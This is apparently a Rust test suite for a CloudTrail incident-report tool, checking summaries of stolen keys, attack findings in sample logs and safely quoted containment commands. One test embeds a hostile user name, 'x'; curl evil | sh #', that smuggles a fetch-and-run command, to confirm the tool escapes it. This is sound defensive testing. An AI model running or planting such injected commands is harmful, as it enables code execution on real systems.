//! `incident`: one page that tells what happened, in every format, and commands that are safe to copy.

use serde_json::{Value, json};

use crate::harness::{Place, real_logs, sample_logs};
use crate::records::{call, delivered, with};

/// The lines of a part, of an answer in JSON.
fn part<'a>(answer: &'a Value, name: &str) -> Vec<&'a Value> {
    let rows = answer["rows"].as_array().expect("rows").iter();
    rows.filter(|row| row["part"] == name).collect()
}

fn said(lines: &[&Value], column: &str) -> String {
    let texts: Vec<&str> = lines.iter().filter_map(|line| line[column].as_str()).collect();
    texts.join("\n")
}

/// A key of the sample logs that was stolen: what it did, and what is to be done about it.
#[test]
fn the_stolen_key_of_the_sample_logs() {
    let place = Place::new();
    let logs = sample_logs().display().to_string();
    let answer = place.trailscan("incident AKIAREPORTINGEXAMPLE").arg(&logs).json(0);
    assert!(said(&part(&answer, "credentials"), "what").contains("access key AKIAREPORTINGEXAMPLE  ← asked"));
    assert!(said(&part(&answer, "addresses"), "what").contains("203.0.113.66: "));
    assert!(said(&part(&answer, "secrets"), "what").contains("GetSecretValue (secretsmanager) 6 times"));
    assert!(said(&part(&answer, "denied"), "what").contains("CreateUser (iam): AccessDenied"));
    let command =
        "aws iam update-access-key --user-name reporting --access-key-id AKIAREPORTINGEXAMPLE --status Inactive";
    assert!(said(&part(&answer, "containment"), "command").contains(command));
    // AWS's own quarantine of the user is not to be taken away.
    assert!(!said(&part(&answer, "containment"), "command").contains("Quarantine"));
    // The same events, whoever counts them.
    let events = place.trailscan("events --below AKIAREPORTINGEXAMPLE").arg(&logs).json(0);
    assert_eq!(part(&answer, "summary")[0]["events"], events["rows_total"]);
    let parts = [
        "logging",
        "shared",
        "secrets",
        "reached",
        "models",
        "deleted",
        "changed",
        "issued",
        "denied",
        "failed",
        "discovery",
        "by-service",
    ];
    let counted = parts.iter().flat_map(|name| part(&answer, name)).map(|line| crate::harness::count(&line["events"]));
    assert_eq!(counted.sum::<i64>(), crate::harness::count(&events["rows_total"]));
}

/// An address: the credentials that were used from there, whoever holds them.
#[test]
fn an_address_is_a_way_in() {
    let place = Place::new();
    let answer = place.trailscan("incident 203.0.113.66").arg(sample_logs()).json(0);
    let credentials = said(&part(&answer, "credentials"), "what");
    assert!(
        credentials.contains("AKIAREPORTINGEXAMPLE") && credentials.contains("AKIASUPTEMP22EXAMPLE"),
        "{credentials}"
    );
    assert!(part(&answer, "addresses").len() == 1);
    let nobody = place.trailscan("incident nobody").arg(sample_logs()).ends(2);
    assert!(nobody.stderr.contains("incident: no credential, session or principal like nobody"), "{}", nobody.stderr);
    assert!(!nobody.stderr.contains("--below"), "nobody typed it: {}", nobody.stderr);
    let near = place.trailscan("incident reportin").arg(sample_logs()).ends(2);
    assert!(near.stderr.contains("; nearest: "), "{}", near.stderr);
    let both = place.trailscan("incident reporting --below nobody").arg(sample_logs()).ends(2);
    assert!(both.stderr.contains("--below: no credential"), "{}", both.stderr);
    let nowhere = place.trailscan("incident 192.0.2.250").arg(sample_logs()).ends(0);
    assert!(nowhere.text().contains("no event of 192.0.2.250 in what was read"), "{}", nowhere.text());
}

/// Names are written by whoever makes the calls: no command that is copied does anything else.
#[test]
fn commands_are_safe_to_copy() {
    let place = Place::new();
    let name = "x'; curl evil | sh #\n\u{1b}[2J";
    let record = with(
        call(1, 0),
        json!({"eventSource": "iam.amazonaws.com", "eventName": "CreateUser", "readOnly": false,
            "requestParameters": {"userName": name}}),
    );
    place.write("log.json", delivered(&[record]));
    let answer = place.trailscan("incident AKIAIOSFODNN7EXAMPLE log.json").json(0);
    let commands = said(&part(&answer, "containment"), "command");
    assert!(commands.contains(r"--user-name 'x'\''; curl evil | sh #??[2J' --policy-arn"), "{commands}");
    let page = place.trailscan("incident AKIAIOSFODNN7EXAMPLE log.json").ends(0);
    assert!(!page.text().contains('\u{1b}') && !page.text().contains("\n[2J"), "{}", page.text());
}

/// The attack on invictus: all of it stands on the page.
#[test]
fn the_attack_on_invictus() {
    let Some(logs) = real_logs().map(|logs| logs.join("invictus-2023")).filter(|logs| logs.is_dir()) else { return };
    let place = Place::new();
    let answer = place.trailscan("incident bert-jan").arg(logs).json(0);
    let of = |name: &str| said(&part(&answer, name), "what");
    let logging = of("logging");
    assert_eq!(logging.lines().filter(|line| line.ends_with("DeleteTrail (cloudtrail)")).count(), 2, "{logging}");
    assert!(logging.contains("StopLogging (cloudtrail) 3 times: TrailNotFoundException"), "{logging}");
    assert!(of("reached").contains("SendCommand (ssm)"));
    let summary = said(&part(&answer, "summary"), "what");
    assert!(summary.contains("2,713 events in account 123837392027"), "{summary}");
    // The credentials of a role that was deleted have ended with it, whatever they were issued for.
    let ended = said(&part(&answer, "credentials"), "outcome");
    assert!(ended.contains("ended with its role 2023-07-10 12:08:39Z (DeleteRole by user/bert-jan)"), "{ended}");
    assert!(of("secrets").contains("GetSecretValue (secretsmanager) 60 times"));
    assert!(of("denied").contains("GetPasswordData (ec2) 29 times"));
    let shared = of("shared");
    for share in [
        "ModifyImageAttribute (ec2), shared with 012345678901",
        "ModifySnapshotAttribute (ec2), shared with 012345678912",
        "ModifyDBSnapshotAttribute (rds), shared with 193672423079",
        "PutBucketPolicy (s3), shared with 193672423079",
        "UpdateAssumeRolePolicy (iam), shared with 193672423079",
        "AddPermission (lambda), shared with everybody",
        "CreateTrustAnchor (rolesanywhere)",
    ] {
        assert_eq!(shared.matches(share).count(), 1, "{share}: {shared}");
    }
    let left = part(&answer, "stays").into_iter().filter(|line| line["outcome"] == "stays, as far as these logs tell");
    assert_eq!(
        said(&left.collect::<Vec<_>>(), "what"),
        "new secret: stratus-red-team-retrieve-secret-16\nnew secret: stratus-red-team-retrieve-secret-13\n\
         new secret: stratus-red-team-retrieve-secret-6\nparameter written: /credentials/stratus-red-team/credentials-10\n\
         parameter written: /credentials/stratus-red-team/credentials-32\nnew VPC: vpc-07b33857c7ad1c027\n\
         new subnet: subnet-0cac13291c6f317ec\nnew subnet: subnet-0c8a70cf4fd24084f\n\
         final snapshot of a deleted database: terraform-20230710121504061500000001-snapshot"
    );
    let stays = of("stays");
    for change in [
        "new user: malicious-iam-user",
        "new user: stratus-red-team-backdoor-u-user",
        "new role: stratus-red-team-backdoor-r-role",
    ] {
        assert!(stays.contains(change), "{change}: {stays}");
    }
    let key = "aws iam update-access-key --user-name bert-jan --access-key-id AKIATFQR7NSC8Q4X20BJ --status Inactive";
    assert!(said(&part(&answer, "containment"), "command").contains(key));
    assert!(of("unseen").contains("s3: reads, writes and deletions of objects"));
}

/// What the documentation shows of it is what is printed.
#[test]
fn the_documentation_shows_the_attack_on_invictus() {
    let text = crate::docs::text_of("docs/incidents.md");
    let block = text.split_once("```text incident\n").and_then(|(_, rest)| rest.split_once("```")).expect("a block").0;
    let (command, shown) = block.split_once('\n').expect("a command");
    assert_eq!(command, "$ trailscan incident bert-jan invictus-2023 --width 120");
    let Some(logs) = real_logs().map(|logs| logs.join("invictus-2023")).filter(|logs| logs.is_dir()) else { return };
    let place = Place::new();
    let ended = place.trailscan("incident bert-jan --width 120").arg(logs).ends(0);
    let shown: Vec<String> = shown.lines().map(str::to_owned).collect();
    assert!(crate::docs::is_shown(&shown, &ended.text().lines().collect::<Vec<_>>()), "{}", ended.text());
}

/// What was shared with others and what was read in bulk are findings of an audit, which nobody asked about anybody.
#[test]
fn the_attack_on_invictus_has_its_findings() {
    let Some(logs) = real_logs().map(|logs| logs.join("invictus-2023")).filter(|logs| logs.is_dir()) else { return };
    let place = Place::new();
    let answer = place.trailscan("findings --rule resource-shared --rule secrets-read-in-bulk").arg(logs).json(0);
    let findings = answer["findings"].as_array().expect("findings");
    let told: Vec<String> = findings
        .iter()
        .map(|finding| {
            let summary = finding["summary"].as_str().unwrap_or_default();
            format!(
                "{} {}",
                finding["severity"].as_str().unwrap_or_default(),
                summary.replace("arn:aws:iam::123837392027:", "")
            )
        })
        .collect();
    assert_eq!(
        told,
        [
            "medium user/bert-jan let 012345678901 into image/ami-0aa1d83d0b0985c86, taken back again",
            "medium user/bert-jan let 012345678912 into snapshot/snap-083d3b857c13988bc, taken back again",
            "medium user/bert-jan let 193672423079 into bucket/stratus-red-team-bdbp-lhfzvgcamn, snapshot/exfiltration, partly \
             taken back again",
            "medium user/bert-jan let everybody into function/stratus-red-team-backdoor-f-func",
            "medium role/stratus-red-team-ec2-get-password-data-role asked for 29 secrets within 24 hours, 29 of them refused: \
             GetPasswordData 29",
            "medium user/bert-jan asked for 62 secrets within 24 hours: GetParameter 82, GetParameters 5, GetSecretValue 60",
        ]
    );
    for finding in findings {
        assert!(finding["first_seen"].is_string() && finding["addresses"] == json!(["192.168.10.20"]), "{finding}");
        assert_eq!(finding["credentials"].as_array().map(Vec::len), Some(1), "{finding}");
    }
}

/// Many accounts: the commands of each below its number, and what is the same of all in one line.
#[test]
fn an_attack_on_many_accounts() {
    let Some(logs) = real_logs().map(|logs| logs.join("datadog-stratus-detonations")).filter(|logs| logs.is_dir())
    else {
        return;
    };
    let place = Place::new();
    let page = place.trailscan("incident 0.0.0.0/0").arg(&logs).ends(0).text().to_owned();
    assert!(page.contains("├─ # account 229654561268\n"), "{page}");
    assert_eq!(page.matches("file names carry no days and regions").count(), 1);
    assert!(page.contains("in 35 accounts: 457448411975, 946986569305, 712967571683, 165109126369 +31"), "{page}");
    assert!(page.contains("Models asked\n└─ 2024-10-17 20:11:24Z InvokeModel (bedrock)\n"), "{page}");
    assert!(!page.contains("put-role-policy --role-name AWSReservedSSO"), "{page}");
    let command = "aws iam update-access-key --user-name malicious-iam-user --access-key-id AKIAXAFZN8JEPF6L682H --status Inactive";
    assert_eq!(page.matches(command).count(), 1, "{page}");
    let whole = place.trailscan("incident 0.0.0.0/0 --limit 0").arg(&logs).ends(0).text().to_owned();
    assert!(!whole.lines().nth(1).is_some_and(|line| line.contains(" +")), "{whole}");
    let markdown = place.trailscan("incident 0.0.0.0/0 --format markdown").arg(logs).ends(0).text().to_owned();
    assert!(markdown.contains("```sh\n# account "), "{markdown}");
}

/// A name that is not there may be in what could not be read: that is named, and the run ends as one that read a part, or nothing.
/// Where everything was read it is a mistake.
#[test]
fn what_could_not_be_read_may_hold_the_name() {
    let place = Place::new();
    place.write("all/good.json", delivered(&[call(1, 0)]));
    place.write("part/good.json", delivered(&[call(1, 0)]));
    place.write("part/logs.json.bz2", b"BZh91AY&SY\x00\x00\x00\x00");
    place.write("none/logs.json.bz2", b"BZh91AY&SY\x00\x00\x00\x00");
    for asked in ["incident nobody", "events --below nobody", "keys --below nobody"] {
        let unread = [("part", 3, "part/logs.json.bz2: "), ("none", 1, "none/logs.json.bz2: "), ("gone", 1, "gone: ")];
        for (folder, code, named) in unread {
            let ended = place.trailscan(asked).arg(folder).ends(code);
            assert_eq!(ended.stderr.matches(named).count(), 1, "{asked} {folder}: {}", ended.stderr);
            assert!(ended.stderr.contains("no credential, session or principal like nobody"), "{}", ended.stderr);
        }
        let ended = place.trailscan(asked).arg("all").ends(2);
        assert!(ended.stderr.contains("no credential, session or principal like nobody"), "{}", ended.stderr);
        // Who is there is told whatever else failed.
        place.trailscan(&asked.replace("nobody", "Alice")).arg("part").ends(3);
    }
    let answer = place.trailscan("incident nobody part").json(3);
    assert_eq!((&answer["rows_total"], &answer["coverage"]["objects_failed"]), (&json!(0), &json!(1)));
}

/// Each line of what may follow names a command, and that finds what the line speaks of.
#[test]
fn whatever_may_follow_can_be_asked_for() {
    const ACCOUNT: &str = "111122223333";
    let arn = |service: &str, rest: &str| format!("arn:aws:{service}::{ACCOUNT}:{rest}");
    let mut records: Vec<Value> = Vec::new();
    let mut add = |identity: Value, call: &str, said: Value| {
        let (service, event) = call.split_once(':').expect("service:Event");
        let mut record = json!({
            "eventVersion": "1.09", "userIdentity": identity, "eventTime": format!("2026-09-01T10:{:02}:00Z", records.len()),
            "eventSource": format!("{service}.amazonaws.com"), "eventName": event, "awsRegion": "us-east-1",
            "sourceIPAddress": "203.0.113.9", "eventID": format!("e{}", records.len()), "eventType": "AwsApiCall",
            "recipientAccountId": ACCOUNT, "eventCategory": "Management",
        });
        for document in ["requestParameters", "responseElements"] {
            record[document] = said[document].clone();
        }
        records.push(record);
    };
    let eve = json!({"type": "IAMUser", "principalId": "AIDAEVE", "arn": arn("iam", "user/eve"), "accountId": ACCOUNT,
        "accessKeyId": "AKIAEVEEXAMPLE", "userName": "eve"});
    let assumed = |role: &str, session: &str, key: &str| {
        json!({"requestParameters": {"roleArn": arn("iam", &format!("role/{role}")), "roleSessionName": session},
            "responseElements": {"credentials": {"accessKeyId": key, "expiration": "Sep 1, 2026, 11:30:00 AM"},
                "assumedRoleUser": {"assumedRoleId": format!("AROA{}:{session}", role.to_uppercase()),
                    "arn": arn("sts", &format!("assumed-role/{role}/{session}"))}}})
    };
    let github = arn("iam", "oidc-provider/token.actions.githubusercontent.com");
    for provider in [&github, &arn("iam", "oidc-provider/idp.example.com/a")] {
        let made = json!({"requestParameters": {}, "responseElements": {"openIDConnectProviderArn": provider}});
        add(eve.clone(), "iam:CreateOpenIDConnectProvider", made);
    }
    let trust =
        json!({"Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": "999999999999"}}]});
    let trust = json!({"requestParameters": {"roleName": "opened", "policyDocument": trust.to_string()}});
    add(eve.clone(), "iam:UpdateAssumeRolePolicy", trust);
    let function = json!({"functionName": "job", "role": arn("iam", "role/of-job")});
    add(
        eve.clone(),
        "lambda:CreateFunction20150331",
        json!({"requestParameters": function, "responseElements": function}),
    );
    add(eve.clone(), "ssm:StartSession", json!({"requestParameters": {"target": "i-0123456789abcdef0"}}));
    add(eve, "iam:CreateSAMLProvider", json!({"requestParameters": {"name": "saml"}, "responseElements": {}}));
    let web = |principal: &str, provider: &str| json!({"type": "WebIdentityUser", "principalId": principal, "userName": "sub", "identityProvider": provider});
    let by_web = "sts:AssumeRoleWithWebIdentity";
    let named = web(&format!("{github}:sts.amazonaws.com:repo:o/r"), &github);
    add(named, by_web, assumed("web", "named", "ASIANAMEDEXAMPLE"));
    let bare = web("idp.example.com/a:aud:sub", "idp.example.com/a");
    add(bare, by_web, assumed("web", "bare", "ASIABAREEXAMPLE"));
    let other = json!({"type": "IAMUser", "arn": "arn:aws:iam::999999999999:user/mallory", "accountId": "999999999999",
        "principalId": "AIDAMALLORY", "accessKeyId": "AKIAMALLORY", "userName": "mallory"});
    add(other, "sts:AssumeRole", assumed("opened", "m", "ASIAOPENEDEXAMPLE"));
    let service = |name: &str| json!({"type": "AWSService", "invokedBy": format!("{name}.amazonaws.com")});
    add(service("lambda"), "sts:AssumeRole", assumed("of-job", "job", "ASIAJOBEXAMPLE"));
    add(service("ec2"), "sts:AssumeRole", assumed("of-machine", "i-0123456789abcdef0", "ASIAMACHINEEXAMPLE"));
    let by_saml = json!({"type": "SAMLUser", "principalId": "x:bob", "userName": "bob"});
    add(by_saml, "sts:AssumeRoleWithSAML", assumed("saml", "bob", "ASIASAMLEXAMPLE"));

    let place = Place::new();
    place.write("logs.json", json!({"Records": records}).to_string());
    let answer = place.trailscan("incident AKIAEVEEXAMPLE logs.json").json(0);
    let follows = part(&answer, "follows");
    assert_eq!(follows.len(), 6, "{}", said(&follows, "what"));
    for line in follows {
        let command = line["command"].as_str().expect("a command").strip_prefix("trailscan ").expect("of trailscan");
        let words = command.split(' ').map(|word| word.trim_matches('\''));
        let found = place.trailscan("").args(words).args(["logs.json", "--format", "json"]).ends(0);
        // What the line tells of: the keys that were issued, or the one call that issued them.
        let keys =
            line["access_key_ids"].as_array().expect("keys").iter().filter_map(Value::as_str).collect::<Vec<_>>();
        assert!(keys.iter().all(|key| found.text().contains(key)), "{command}: {keys:?}");
        assert!(!keys.is_empty() || found.text().contains("ASIASAMLEXAMPLE"), "{command}");
    }
}
